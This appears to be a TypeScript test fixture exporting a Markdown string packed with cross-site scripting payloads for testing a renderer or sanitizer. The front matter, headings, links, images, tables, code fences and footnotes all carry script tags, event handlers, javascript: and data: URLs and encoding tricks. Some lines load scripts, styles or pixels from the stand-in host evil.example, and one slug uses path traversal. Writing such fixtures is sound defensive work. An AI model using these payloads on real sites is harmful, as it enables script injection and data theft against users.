/**
 * Everything that might run, load or take over a page, in every place a Markdown document has. `hit()` would be a
 * success of it; evil.example would see a request.
 */
export const hostileMarkdown = `---
title: "</title><script>top.hit=1</script><img src=x onerror=top.hit=1>"
author: "<svg onload=top.hit=1>"
description: "\\"><script>top.hit=1</script>"
tags: ["<script>top.hit=1</script>", "\\" onmouseover=\\"top.hit=1"]
slug: "../../../etc/<script>"
date: 2026-01-01
image: javascript:top.hit=1
layout: "<iframe src=https://evil.example>"
---

# Heading <script>top.hit=1</script> "onclick=top.hit=1"

<script>top.hit=1</script>

<script src="https://evil.example/a.js"></script>

<img src=x onerror="top.hit=1">

<svg onload="top.hit=1"><script>top.hit=1</script><a xlink:href="javascript:top.hit=1"><text>x</text></a></svg>

<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)} *{display:none}</style>

</style></main></body><script>top.hit=1</script>

<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>

<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b.swf">

<form action="https://evil.example/"><input autofocus onfocus="top.hit=1"><button>Send</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css">

<details open ontoggle="top.hit=1"><summary>x</summary></details>

<math><mtext><table><mglyph><style><img src=x onerror="top.hit=1"></style></mglyph></table></mtext></math>

<noscript><p title="</noscript><img src=x onerror=top.hit=1>"></noscript>

[a](javascript:top.hit=1) [b](JaVaScRiPt&colon;top.hit=1) [c](java&#10;script:top.hit=1) [d](data:text/html,<script>top.hit=1</script>)
[e](vbscript:top.hit=1) [f](//evil.example/) [g](https://evil.example/ "\\" onmouseover=\\"top.hit=1") [h](<javascript:top.hit=1>)

<javascript:top.hit=1> <https://evil.example/" onmouseover="top.hit=1>

![a](https://evil.example/pixel.png) ![b](//evil.example/pixel.png) ![c](javascript:top.hit=1) ![" onerror="top.hit=1](x)
![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5oaXQ9MSIvPg==) ![e](x "\\" onerror=\\"top.hit=1")

\`\`\`"><script>top.hit=1</script>
</code></pre><script>top.hit=1</script>
\`\`\`

| <script>top.hit=1</script> | <img src=x onerror=top.hit=1> |
| --- | --- |
| [x](javascript:top.hit=1) | <svg/onload=top.hit=1> |

A note[^<script>].

[^<script>]: <script>top.hit=1</script> <img src=https://evil.example/note.png>

[ref]

[ref]: javascript:top.hit=1 "x"

*The end.*
`;
